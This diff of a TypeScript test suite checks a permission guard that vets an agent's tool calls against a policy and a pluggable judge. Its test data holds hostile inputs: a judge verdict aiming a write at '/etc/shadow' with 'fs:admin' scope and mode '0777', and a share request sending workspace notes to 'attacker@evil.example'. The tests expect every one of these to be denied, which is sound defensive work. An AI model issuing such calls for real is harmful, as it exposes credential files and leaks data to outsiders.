@@ -241,18 +241,55 @@ describe('Guard.decide: judge', () => {
     expect(d.flags).toContain('judge-narrowed');
   });
 
-  it('a judge can never widen: extra scopes, paths outside, new or swapped values are refused', async () => {
-    const judge = new ScriptedJudge(() =>
-      verdict({
-        decision: 'narrow',
-        scopes: ['fs:write', 'fs:admin'],
-        args: { path: '/etc/shadow', content: 'other', mode: '0777' },
-      }),
+  it('a judge can never widen: a narrowing with extra scopes, paths outside, new or swapped values is refused, and the call denied', async () => {
+      const judge = new ScriptedJudge(() =>
+        verdict({
+          decision: 'narrow',
+          scopes: ['fs:write', 'fs:admin'],
+          args: { path: '/etc/shadow', content: 'other', mode: '0777' },
+        }),
+      );
+      const d = await guard({ judge }).decide(req('fs', 'write_file', { path: '/workspace/notes.md', content: 'hi' }), session());
+      expect(d.decision).toBe('deny');
+      expect(d.grant).toBeNull();
+      expect(d.judge?.refused?.length).toBeGreaterThanOrEqual(3);
+  });
+
+  it('a refused part of a narrowing never lets the rest run as requested (regression: the rejected recipient ran)', async () => {
+    const judge = new ScriptedJudge(() => verdict({ decision: 'narrow', args: { path: '/workspace/notes/q3.md', to: 'me@corp.example' } }));
+    const d = await guard({ judge }, POLICY.replace('tool: write_file', 'tool: [write_file, share]')).decide(
+      req('fs', 'share', { path: '/workspace/notes', to: 'attacker@evil.example' }),
+      session(),
     );
-    const d = await guard({ judge }).decide(req('fs', 'write_file', { path: '/workspace/notes.md', content: 'hi' }), session());
-    expect(d.grant?.scopes).toEqual(['fs:write']);
-    expect(d.grant?.args).toEqual({ path: '/workspace/notes.md', content: 'hi' });
-    expect(d.judge?.refused?.length).toBeGreaterThanOrEqual(3);
+    expect(d.decision).toBe('deny');
+    expect(d.proceed).toBe(false);
+    expect(d.reasons.join(' ')).toMatch(/cannot be applied within the boundary \(to\)/);
+  });
+
+  it('a verdict that is not one of the three decisions is a judge failure (a pluggable judge cannot allow by accident)', async () => {
+    for (const decision of ['block', 'DENY', undefined]) {
+      const judge = new ScriptedJudge(() => verdict({ decision: decision as unknown as 'allow' }));
+      const d = await guard({ judge }).decide(req('fs', 'write_file', { path: '/workspace/a' }), session());
+      expect(d.decision, String(decision)).toBe('deny');
+      expect(d.flags).toContain('judge-failed');
+    }
+    const nan = new ScriptedJudge(() => verdict({ decision: 'allow', confidence: Number.NaN }));
+    expect((await guard({ judge: nan }).decide(req('fs', 'write_file', { path: '/workspace/a' }), session())).decision).toBe('deny');
+  });
+
+  it('the audience policy names reaches the credential issuer', async () => {
+    const seen: string[] = [];
+    const issuer: Issuer = {
+      kind: 'jwt',
+      async issue(r) {
+        seen.push(r.audience);
+        return { id: 'j', kind: 'jwt', scopes: [], audience: r.audience, expiresAt: 0, secret: new SecretValue('t') };
+      },
+    };
+    const withAudience = POLICY.replace('    scopes: [fs:read]\n    args:\n      path: { within: [/workspace] }\n      limit: { max: 50 }', '    scopes: [fs:read]\n    audience: https://files.internal\n    args:\n      path: { within: [/workspace] }\n      limit: { max: 50 }');
+    expect(withAudience).not.toBe(POLICY);
+    await guard({ issuerFor: () => issuer, audienceFor: () => 'urn:fallback' }, withAudience).run(req('fs', 'list_directory', { path: '/workspace' }), session(), async () => ({ ok: true, result: null }));
+    expect(seen).toEqual(['https://files.internal']);
   });
 
   it('an allow verdict cannot smuggle arguments: the grant keeps the requested args', async () => {
